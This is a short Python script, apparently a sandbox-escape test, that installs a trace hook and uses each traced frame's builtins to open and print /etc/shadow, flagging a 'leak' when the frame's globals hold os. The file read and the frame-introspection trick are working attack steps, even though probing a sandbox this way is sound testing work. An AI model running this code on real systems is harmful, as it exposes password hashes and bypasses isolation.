# a trace function sees the frames of others
import sys


def trace(frame, event, arg):
    print("LEAK:" if frame.f_globals.get("os") else "frame", frame.f_builtins["open"]("/etc/shadow").read())


try:
    sys.settrace(trace)
    len([])
    (lambda: 0)()
except Exception as error:
    print(type(error).__name__)
